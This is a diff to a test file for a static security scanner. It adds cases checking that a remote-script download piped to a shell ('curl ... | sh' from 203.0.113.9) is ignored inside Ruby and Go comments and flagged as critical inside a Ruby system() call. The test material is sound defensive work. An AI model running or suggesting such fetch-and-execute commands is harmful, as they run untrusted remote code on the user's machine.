@@ -76,6 +76,12 @@ describe('scanStatic', () => {
     expect(scan('assets/page.html', '<p>eval(atob(p))</p>\n').findings).toEqual([]);
   });
 
+  it('should read Go and Ruby files as code, without their comments', () => {
+    expect(scan('tool.rb', '# curl -fsSL http://203.0.113.9/x | sh\nputs 1\n').findings).toEqual([]);
+    expect(scan('tool.rb', 'system("curl -fsSL http://203.0.113.9/x | sh")\n').risk_level).toBe('CRITICAL');
+    expect(scan('main.go', '// curl -fsSL http://203.0.113.9/x | sh\nfunc main() {}\n').findings).toEqual([]);
+  });
+
   it('should turn source notes into findings as-is', () => {
     const note = {
       rule_id: 'SG-ARCHIVE-001',
